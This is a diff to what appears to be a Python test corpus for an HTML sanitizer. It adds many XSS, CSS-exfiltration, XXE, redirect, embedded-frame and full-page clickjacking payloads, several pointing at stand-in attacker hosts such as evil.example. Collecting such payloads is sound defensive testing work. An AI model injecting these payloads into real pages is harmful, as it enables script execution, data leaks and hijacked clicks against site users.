@@ -116,7 +116,127 @@ _HANGING = [
     f"</iframe></main><script>{_RUN}</script>",
     f"\"></iframe><img src='{HOST}/62'>",
 ]
-BODIES = [*_TAGS_THAT_RUN, *_HANDLERS, *_FETCHES, *_HANGING]
+_ACTIVE_XML = [
+    f"<svg><set attributeName=href to='javascript:{_RUN}'/><a><text y=9>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg"
+    f" onload={_RUN}/>#x'/></svg>",
+    f"<svg><foreignObject><iframe src='{HOST}/70'></iframe></foreignObject></svg>",
+    f"<svg xmlns:xlink='http://www.w3.org/1999/xlink'><script xlink:href='{HOST}/71'/></svg>",
+    f"<svg><style>@import '{HOST}/72';</style></svg>",
+    f"<svg><rect width=9 height=9 fill='url({HOST}/73#g)' marker-end='url({HOST}/74#m)'/></svg>",
+    f"<svg><discard onbegin='{_RUN}'/><image href=x onerror='{_RUN}'/></svg>",
+    f"<math><annotation-xml encoding='text/html'><img src='{HOST}/75' onerror='{_RUN}'>"
+    "</annotation-xml></math>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
+    f" onerror={_RUN}&gt;'></table>",
+    f"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{HOST}/76'?><html/>",
+    "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
+    f"<xsl:include href='{HOST}/77'/><script>{_RUN}</script></xsl:stylesheet>",
+    f"<!DOCTYPE x [<!ENTITY e SYSTEM '{HOST}/78'>]><p>&e;",
+]
+_STYLES = [
+    f"<style>@import url({HOST}/80) layer(x) supports(display:grid) screen;</style>",
+    f"<style>@\\69mport '{HOST}/81';p{{background:\\75rl({HOST}/82)}}</style><p>x",
+    f"<style>@property --u{{syntax:'<url>';inherits:true"
+    f";initial-value:url({HOST}/83)}}p{{content:var(--u)}}</style><p>x",
+    f"<style>:root{{--u:url({HOST}/84)}}p{{background-image:var(--u)}}</style><p>x",
+    f"<style>p{{float:left;shape-outside:url({HOST}/85);clip-path:url({HOST}/86#c)"
+    f";offset-path:url({HOST}/87#o)}}</style><p>x",
+    f"<style>p{{background:-webkit-cross-fade(url({HOST}/88),url({HOST}/89),50%);"
+    f"-webkit-box-reflect:below 0 url({HOST}/90)}}</style><p>x",
+    f"<style>li::marker{{content:url({HOST}/91)}}li:has(b)::after{{content:image-set(url({HOST}/92)"
+    f" 1x)}}</style><li><b>x",
+    f"<style>input[value^=a]{{background:url({HOST}/93)}}</style><input value=abc>",
+    f"<style>@font-face{{font-family:y;src:local(none),url({HOST}/94) format('woff2') tech(variations);"
+    "unicode-range:U+61}p{font-family:y}</style><p>a",
+    f"<style>@keyframes k{{to{{background:url({HOST}/95)}}}}p{{animation:k 1ms forwards}}</style><p>x",
+    f"<p style='behavior:url({HOST}/96);-moz-binding:url({HOST}/97#x);width:expression({_RUN})'>x",
+    f"<style>@document url({HOST}/98){{}}@namespace url({HOST}/99);@media"
+    f" all{{p{{cursor:-webkit-image-set(url({HOST}/100) 1x),auto}}}}</style><p>x",
+    f"<template shadowrootmode=open><style>@import '{HOST}/101'"
+    f";:host{{background:url({HOST}/102)}}</style></template>",
+    f"<div><template shadowrootmode=closed><img src='{HOST}/103' onerror='{_RUN}'>"
+    f"<script>{_RUN}</script></template></div>",
+]
+_AHEAD = [
+    f"<link rel=preload as=image imagesrcset='{HOST}/110 1x, {HOST}/111 2x' imagesizes=9px>",
+    f"<link/rel=preconnect/href={HOST}/>",
+    f"<LINK\nREL='nofollow PRECONNECT'\nHREF='{HOST}/' crossorigin>",
+    f"<link\x0crel=preconnect\x0chref={HOST}/>",
+    f"<link rel=compression-dictionary href='{HOST}/112'><link rel=expect href='{HOST}/113' blocking=render>",
+    f"<!--><link rel=preconnect href='{HOST}/'>--><link rel='&#112;reconnect' href='{HOST}/'>",
+    f"<noscript><link rel=preconnect href='{HOST}/'><img src='{HOST}/114'></noscript>",
+    f"<noscript><style></noscript><img src=x onerror='{_RUN}'><iframe src='{HOST}/115'></style></noscript>",
+    f"<select><template><link rel=preconnect href='{HOST}/'></template></select><svg><link"
+    f" rel=preconnect href='{HOST}/'/></svg>",
+    f"<meta http-equiv=x-dns-prefetch-control content=on><a href='{HOST}/116'>x</a>",
+    f"<meta http-equiv='&#114;efresh' content='0;URL=\"{HOST}/117\"'>",
+    f"<meta http-equiv=refresh content='.0,{HOST}/118'>",
+    "<meta http-equiv=refresh content=' 0 ; url = //evil.example/119 '>",
+    f"<svg><meta http-equiv=refresh content='0;{HOST}/120'></svg>",
+    f"<meta http-equiv=delegate-ch content='sec-ch-ua-model {HOST}'><meta name=referrer"
+    f" content=unsafe-url><img src='{HOST}/121'>",
+    f'<script type=importmap>{{"imports":{{"x":"{HOST}/122"}}}}</script><script type=module>import \'x\'</script>',
+    f"<script type=module src='{HOST}/123'></script><script nomodule src='{HOST}/124'></script>",
+    f"<img attributionsrc='{HOST}/125' src='{HOST}/126' crossorigin fetchpriority=high>",
+    f"<image src='{HOST}/127'><img src='&#104;ttps&colon;//evil&period;example/128'>",
+    "<base href='//evil.example'><img src='/129'><link rel=icon href=130>",
+]
+_EMBEDDED = [
+    "<iframe sandbox='allow-scripts allow-same-origin allow-top-navigation' srcdoc=\"<img"
+    f" src='{HOST}/140'><script>{_RUN}</script>\"></iframe>",
+    f"<iframe src='data:text/html,<script>{_RUN}</script><img src={HOST}/141>'></iframe>",
+    f"<iframe src='blob:{HOST}/142'></iframe><iframe src='view-source:{HOST}/143'></iframe>",
+    "<iframe src='/operator'></iframe><object data='/me'></object><embed src='/inbox/1/html'>",
+    f"<iframe credentialless loading=eager csp='default-src *' src='{HOST}/144'></iframe>",
+    f"<fencedframe src='{HOST}/145'></fencedframe><webview src='{HOST}/146'></webview>",
+    f"<object classid='clsid:D27CDB6E' codebase='{HOST}/147'><param name=movie value='{HOST}/148'></object>",
+    "<object type='image/svg+xml' data='data:image/svg+xml,<svg xmlns="
+    f'"http://www.w3.org/2000/svg" onload="{_RUN}"/>\'></object>',
+    f"<embed type='application/pdf' src='{HOST}/149'><embed type='text/html'"
+    f" src='data:text/html,<script>{_RUN}</script>'>",
+    f"<!--[if gte IE 4]><script>{_RUN}</script><img src='{HOST}/150'><![endif]--><![if !IE]>"
+    f"<img src='{HOST}/151'><![endif]>",
+    f"<div popover id=d onbeforetoggle='{_RUN}' ontoggle='{_RUN}'>x</div><p hidden=until-found"
+    f" onbeforematch='{_RUN}'>x",
+    f"<p style='content-visibility:auto' oncontentvisibilityautostatechange='{_RUN}'>x",
+    f"<form action='{HOST}/152' id=parentNode name=body><input name=firstChild><input"
+    " name=attributes></form>",
+    f"<plaintext><img src='{HOST}/153' onerror='{_RUN}'>",
+    f"<p>\x00<scr\x00ipt>{_RUN}</script><img\x00src='{HOST}/154' src\x0b='{HOST}/155' "
+    f"\x00onerror='{_RUN}' src='{HOST}/156'>",
+]
+BODIES = [*_TAGS_THAT_RUN, *_HANDLERS, *_FETCHES, *_HANGING, *_ACTIVE_XML, *_STYLES, *_AHEAD, *_EMBEDDED]
+
+_OVER_ALL = "style='position:fixed;inset:0;width:100%;height:100%;display:block'"
+CLICKED = [
+    f"<a {_OVER_ALL} href='{HOST}/200'>x</a>",
+    f"<a {_OVER_ALL} href='{HOST}/201' target=_top ping='{HOST}/202'>x</a>",
+    f"<a {_OVER_ALL} href='{HOST}/203' target=_blank rel=opener>x</a>",
+    f"<a {_OVER_ALL} href='#' ping='{HOST}/204' attributionsrc='{HOST}/205'>x</a>",
+    f"<a {_OVER_ALL} href='{HOST}/206' download>x</a>",
+    f"<a {_OVER_ALL} href='java\tscr\nipt:{_RUN}'>x</a>",
+    f"<a {_OVER_ALL} href='\x01 JaVaScRiPt&colon;{_RUN}' target=_parent>x</a>",
+    f"<a {_OVER_ALL} href='vbscript:MsgBox(1)'>x</a>",
+    f"<a {_OVER_ALL} href='data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4='>x</a>",
+    f"<a {_OVER_ALL} href='data:text/html,<script>{_RUN}</script>' target=_top>x</a>",
+    f"<base target=_top><map name=m><area shape=default href='{HOST}/207'></map><img usemap=#m"
+    f" {_OVER_ALL} src=data:,>",
+    f"<svg {_OVER_ALL}><a href='javascript:{_RUN}'><rect width=9999 height=9999 /></a></svg>",
+    f"<math {_OVER_ALL} href='{HOST}/208'><mtext {_OVER_ALL} href='javascript:{_RUN}'>x</mtext></math>",
+    f"<form action='{HOST}/209' method=post target=_top><button {_OVER_ALL}>x</button></form>",
+    f"<form><button {_OVER_ALL} formaction='{HOST}/210'>x</button></form>",
+    f"<form><input type=image {_OVER_ALL} formaction='javascript:{_RUN}' src=data:,></form>",
+    f"<form id=g action='{HOST}/211' method=dialog></form><input type=submit form=g"
+    f" formmethod=get {_OVER_ALL}>",
+    f"<details {_OVER_ALL} ontoggle='{_RUN}'><summary {_OVER_ALL} onclick='{_RUN}'>x</summary></details>",
+    f"<button {_OVER_ALL} popovertarget=q onclick='{_RUN}'>x</button><p popover id=q ontoggle='{_RUN}'>x",
+    f"<label {_OVER_ALL} for=c onpointerdown='{_RUN}'>x</label><form action='{HOST}/212'><input"
+    " type=submit id=c></form>",
+    f"<a {_OVER_ALL} href='mailto:x@evil.example?body={HOST}' target=_top>x</a>",
+    f"<a {_OVER_ALL} href='/me' target=_top>x</a>",
+]
+"""What does nothing until somebody clicks on it, wherever that is."""
 
 HEADERS = [
     f"<script>{_RUN}</script>",
